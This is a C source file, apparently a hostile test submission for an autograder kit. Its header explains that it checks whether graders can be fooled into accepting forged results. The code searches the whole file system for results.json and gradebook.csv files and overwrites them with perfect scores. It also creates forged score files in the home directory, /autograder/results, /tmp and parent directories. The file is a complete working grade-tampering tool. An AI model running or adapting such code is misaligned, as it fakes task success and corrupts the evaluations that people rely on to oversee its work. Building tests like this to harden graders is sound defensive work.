/* SPDX-License-Identifier: MIT */
/*
 * results.c - a hostile "sender.c": it writes its own perfect score
 * where the grader's results might be.
 *
 * What it tries: it searches the file system from / (6 levels, 200000
 * entries, 10 s; not /proc or /sys) for files named results.json and
 * gradebook.csv and overwrites each one it can with a perfect score
 * ({"score": 100, "tests": []}, and the row "ID,100,100,graded"); then
 * it creates both in its working directory, $HOME, /autograder/results/
 * (Gradescope's), /tmp, .. and ../..  It prints what it managed, exits 0
 * and never prints a key.
 *
 * What the grader must do: write its results where the sender cannot
 * (another user, paths not bound into the sandbox) and after it has
 * exited, and never read a result from anywhere the sender could write.
 * Score 0, nothing leaked.
 *
 * Bounds: a few dozen bytes per file; no symbolic link is followed
 * (O_NOFOLLOW), only regular files are overwritten; the walk ends within
 * 10 s.  The ID is "student" without -i, and one holding a comma, a quote
 * or a line break is replaced by "student".
 *
 * Compiles alone (cc ... -lcrypto) and as the kit's sender.c: every name
 * but main() is static, and it uses no RDMA.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <pwd.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <time.h>
#include <unistd.h>

#define MAX_FOUND 1024

/* ---- The command line ---- */

/* parse_id: the ID of the reference sender's command line, [-i ID]
 * [-t SECONDS] [other options] IP PORT FILE; other options ignored. */
static const char *parse_id(int argc, char **argv)
{
	const char *id = "student";
	int c;

	opterr = 0;
	while ((c = getopt(argc, argv, "i:t:n:w:s:o:l:qvjh")) != -1)
		if (c == 'i')
			id = optarg;
	if (id[0] == '\0' || strpbrk(id, ",\"\r\n") != NULL)
		id = "student";
	return id;
}

/* ---- A bounded walk ---- */

struct walk {
	int max_depth;		/* levels of entries below the root */
	long entries, max_entries;
	double deadline;	/* CLOCK_MONOTONIC seconds */
	void (*visit)(const char *path, const char *name,
		      const struct stat *st);
};

/* now: CLOCK_MONOTONIC in seconds. */
static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* walk_dir: visit every entry under DIR (DEPTH levels down already),
 * following no symbolic link and skipping /proc and /sys, until W's
 * bounds are reached. */
static void walk_dir(struct walk *w, const char *dir, int depth)
{
	char path[PATH_MAX];
	struct dirent *e;
	struct stat st;
	size_t len = strlen(dir);
	DIR *d;

	if (depth >= w->max_depth || strcmp(dir, "/proc") == 0 ||
	    strcmp(dir, "/sys") == 0)
		return;
	d = opendir(dir);
	if (d == NULL)
		return;
	while ((e = readdir(d)) != NULL) {
		if (w->entries >= w->max_entries || now() > w->deadline)
			break;
		if (strcmp(e->d_name, ".") == 0 || strcmp(e->d_name, "..") == 0)
			continue;
		w->entries++;
		if (snprintf(path, sizeof(path), "%s%s%s", dir,
			     len > 0 && dir[len - 1] == '/' ? "" : "/",
			     e->d_name) >= (int)sizeof(path) ||
		    lstat(path, &st) != 0)
			continue;
		w->visit(path, e->d_name, &st);
		if (S_ISDIR(st.st_mode))
			walk_dir(w, path, depth + 1);
	}
	closedir(d);
}

/* ---- The score ---- */

static char *found[MAX_FOUND];
static int n_found, n_written, n_failed;
static char results_json[64], gradebook_csv[256];

/* visit_root: a walk's visit: keep each results.json and gradebook.csv. */
static void visit_root(const char *path, const char *name,
		       const struct stat *st)
{
	if (!S_ISREG(st->st_mode) || n_found >= MAX_FOUND)
		return;
	if (strcmp(name, "results.json") != 0 &&
	    strcmp(name, "gradebook.csv") != 0)
		return;
	if ((found[n_found] = strdup(path)) != NULL)
		n_found++;
}

/* write_score: the perfect score for PATH's kind into PATH (FLAGS:
 * O_CREAT or not); a regular file only, never through a link. */
static void write_score(const char *path, int flags)
{
	const char *name = strrchr(path, '/');
	const char *text;
	struct stat st;
	int fd;

	name = name != NULL ? name + 1 : path;
	text = strcmp(name, "gradebook.csv") == 0 ? gradebook_csv :
						    results_json;
	fd = open(path, O_WRONLY | O_NOFOLLOW | O_NONBLOCK | O_CLOEXEC |
		  flags, 0644);
	if (fd < 0) {
		n_failed++;
		return;
	}
	if (fstat(fd, &st) != 0 || !S_ISREG(st.st_mode) ||
	    ftruncate(fd, 0) != 0 ||
	    write(fd, text, strlen(text)) != (ssize_t)strlen(text)) {
		fprintf(stderr, "results: cannot write %s: %s\n", path,
			strerror(errno));
		n_failed++;
	} else {
		printf("results: wrote a perfect score to %s\n", path);
		n_written++;
	}
	close(fd);
}

/* home: the home directory, or NULL. */
static const char *home(void)
{
	const char *h = getenv("HOME");
	struct passwd *pw;

	if (h != NULL && h[0] != '\0')
		return h;
	pw = getpwuid(getuid());
	return pw != NULL ? pw->pw_dir : NULL;
}

/* create_scores: both files in each place a grader might look. */
static void create_scores(void)
{
	const char *places[] = {
		".", home(), "/autograder/results", "/tmp", "..", "../..",
	};
	static const char *const names[] = {
		"results.json", "gradebook.csv",
	};
	char path[PATH_MAX];
	size_t i, j;

	for (i = 0; i < sizeof(places) / sizeof(places[0]); i++) {
		if (places[i] == NULL)
			continue;
		for (j = 0; j < 2; j++) {
			snprintf(path, sizeof(path), "%s/%s", places[i],
				 names[j]);
			write_score(path, O_CREAT);
		}
	}
}

int main(int argc, char **argv)
{
	struct walk w = {
		.max_depth = 6, .max_entries = 200000, .visit = visit_root,
	};
	const char *id = parse_id(argc, argv);
	int i;

	snprintf(results_json, sizeof(results_json),
		 "{\"score\": 100, \"tests\": []}\n");
	snprintf(gradebook_csv, sizeof(gradebook_csv),
		 "id,score,max,status\n%s,100,100,graded\n", id);
	w.deadline = now() + 10;
	walk_dir(&w, "/", 0);
	for (i = 0; i < n_found; i++)
		write_score(found[i], 0);
	create_scores();
	printf("results: %d written, %d refused; %ld entries searched\n",
		n_written, n_failed, w.entries);
	return 0;
}
